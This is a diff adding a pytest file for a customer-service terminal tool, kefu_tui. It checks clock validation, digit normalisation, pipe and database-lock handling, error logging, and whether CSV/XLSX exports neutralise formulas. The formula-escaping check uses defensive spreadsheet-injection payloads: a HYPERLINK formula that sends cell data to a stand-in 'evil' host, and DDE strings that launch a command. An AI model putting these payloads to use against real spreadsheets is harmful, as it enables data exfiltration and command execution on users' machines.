@@ -1,0 +1,132 @@
+"""Issue 8 through the real program: the clock's range, a closed pipe, a busy database,
+formula text in every export, look-alike digits, a real bug's trace in the log."""
+
+from __future__ import annotations
+
+import csv
+import sqlite3
+import subprocess
+import sys
+import zipfile
+
+import pytest
+
+from kefu_tui.services.export import REPORTS
+
+NOW = "2026-11-24T09:30:00+08:00"
+NO = "518023259997"
+FORMULA = '=HYPERLINK("http://evil/"&A1,"查看")'
+
+
+def kefu(db, *args, now=NOW, **kw):
+    return subprocess.run(
+        [sys.executable, "-m", "kefu_tui", "--db", str(db), "--now", now, "--user", "=cmd|' /C calc'!A0",
+         *map(str, args)], capture_output=True, text=True, timeout=120, **kw)
+
+
+def one_line_no_trace(r):
+    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
+    assert len(r.stderr.strip().splitlines()) <= 1, r.stderr
+
+
+@pytest.fixture
+def loaded(db_path, samples):
+    r = kefu(db_path, "import", samples / "扫描记录_20261123.csv", samples / "运单导出_20261123.xlsx",
+             samples / "派件清单_淮滨_20261123.csv")
+    assert r.returncode == 0, r.stderr
+    return db_path
+
+
+@pytest.mark.parametrize("now", ["0001-01-01T00:00:00", "9999-12-31T23:00:00+08:00", "1999-12-31T23:59:59+08:00",
+                                 "2100-01-01T00:00:00+08:00", "-1", "99999999999999999999", "2026-02-30T08:00:00",
+                                 "2026-13-01T00:00:00", "\x1b[2J"])
+def test_a_clock_outside_2000_2100_or_unreadable_is_exit_2(db_path, now):
+    r = kefu(db_path, "ticket", "list", now=now)
+    assert r.returncode == 2, r.stderr
+    one_line_no_trace(r)
+    assert "--now" in r.stderr
+    assert not db_path.exists()  # refused before the database is touched
+
+
+def test_full_width_and_arabic_digits_register_one_ticket(loaded):
+    full = NO.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
+    arabic = NO.translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
+    assert kefu(loaded, "ticket", "add", "--type", "phone", "--text", "x", full).returncode == 0
+    r = kefu(loaded, "ticket", "add", "--type", "phone", "--text", "x", arabic, "--json")
+    assert r.returncode == 0 and '"created": 0' in r.stdout, r.stdout
+    with sqlite3.connect(loaded) as c:
+        assert c.execute("SELECT DISTINCT waybill FROM tickets").fetchall() == [(NO,)]
+    r = kefu(loaded, "track", arabic)
+    assert r.stdout.startswith(NO) and "未知单号" not in r.stdout.splitlines()[0]
+
+
+def test_track_into_a_closed_pipe_is_a_normal_end(loaded):
+    numbers = "\n".join(str(518023259000 + i) for i in range(3000))
+    p = subprocess.Popen([sys.executable, "-m", "kefu_tui", "--db", str(loaded), "--now", NOW, "track", "-"],
+                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    p.stdin.write(numbers.encode())
+    p.stdin.close()
+    p.stdout.readline()  # `| head -1`
+    p.stdout.close()
+    err = p.stderr.read().decode()
+    assert p.wait(timeout=60) == 0, err
+    assert err == ""
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_no_export_holds_a_live_formula(loaded, tmp_path, suffix):
+    assert kefu(loaded, "ticket", "add", "--type", "phone", "--text", FORMULA, NO).returncode == 0
+    assert kefu(loaded, "ticket", "note", NO, "@SUM(1+1)*cmd|' /C calc'!A0").returncode == 0
+    for report in REPORTS:
+        out = tmp_path / f"{report}{suffix}"
+        r = kefu(loaded, "export", report, "-o", out)
+        assert r.returncode == 0, (report, r.stderr)
+        if suffix == ".csv":
+            with open(out, encoding="utf-8-sig", newline="") as fh:
+                for row in csv.reader(fh):
+                    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), (report, row)
+        else:
+            with zipfile.ZipFile(out) as z:
+                for name in z.namelist():
+                    if name.startswith("xl/worksheets/"):
+                        xml = z.read(name).decode()
+                        assert "<f>" not in xml and "<f " not in xml, report
+    if suffix == ".csv":
+        text = (tmp_path / "tickets.csv").read_text(encoding="utf-8-sig")
+        assert "'=HYPERLINK" in text
+
+
+def test_a_database_busy_longer_than_the_wait_writes_nothing(loaded, monkeypatch, capsys):
+    from kefu_tui import cli
+    from kefu_tui.store import db
+
+    monkeypatch.setattr(db, "BUSY_TIMEOUT_MS", 200)
+    holder = sqlite3.connect(loaded, isolation_level=None)
+    holder.execute("BEGIN IMMEDIATE")
+    try:
+        code = cli.main(["--db", str(loaded), "--now", NOW, "ticket", "add", "--type", "phone", "--text", "x", NO])
+    finally:
+        holder.execute("ROLLBACK")
+        holder.close()
+    err = capsys.readouterr().err
+    assert code == 1
+    assert "数据库正忙" in err and len(err.strip().splitlines()) == 1
+    with sqlite3.connect(loaded) as c:
+        assert c.execute("SELECT count(*) FROM tickets").fetchone()[0] == 0
+
+
+def test_a_real_bug_goes_to_the_log_with_one_line_on_screen(loaded, monkeypatch, capsys, tmp_path):
+    from kefu_tui import cli
+    from kefu_tui.cli import track
+
+    def broken(ctx, args):
+        raise ZeroDivisionError("a bug")
+
+    monkeypatch.setenv("KEFU_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setattr(track, "run", broken)
+    code = cli.main(["--db", str(loaded), "--now", NOW, "track", NO])
+    err = capsys.readouterr().err
+    assert code == 1
+    assert err.count("\n") == 1 and "内部错误" in err and "ZeroDivisionError" in err
+    log = (tmp_path / "data" / "logs" / "kefu-errors.log").read_text()
+    assert "Traceback" in log and "a bug" in log and str(tmp_path / "data") in err
